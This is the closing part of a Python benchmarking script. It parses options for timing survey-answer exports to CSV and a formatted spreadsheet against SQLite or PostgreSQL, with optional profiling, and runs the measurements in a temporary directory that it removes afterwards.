    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--databases", nargs="+", default=["sqlite"], choices=["sqlite", "postgresql"])
    parser.add_argument("--answers", type=int, default=500_000, help="about how many answers the cycle holds")
    parser.add_argument("--repeat", type=int, default=3, help="turns of export, floor (and CSV)")
    parser.add_argument("--no-csv", action="store_true", help="do not time the Responses CSV")
    parser.add_argument("--no-styled-floor", action="store_true",
                        help="do not time the floor with our cell formats (for information)")
    parser.add_argument("--profile", nargs="*", choices=PROFILE_MODES, metavar="MODE",
                        help="profile one export instead of the comparison: phases, cprofile and/or tracemalloc "
                             "(all three when none is named)")
    parser.add_argument("--top", type=int, default=25, help="lines of each profile")
    args = parser.parse_args()
    if args.repeat < 1:
        parser.error("--repeat must be at least 1")
    work = Path(tempfile.mkdtemp(prefix="s17export"))
    try:
        surveys = work / "surveys"
        write_surveys(surveys)
        for label, url, cleanup in database_urls(args.databases):
            try:
                measure(label, url, surveys, work, args)
            finally:
                cleanup()
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
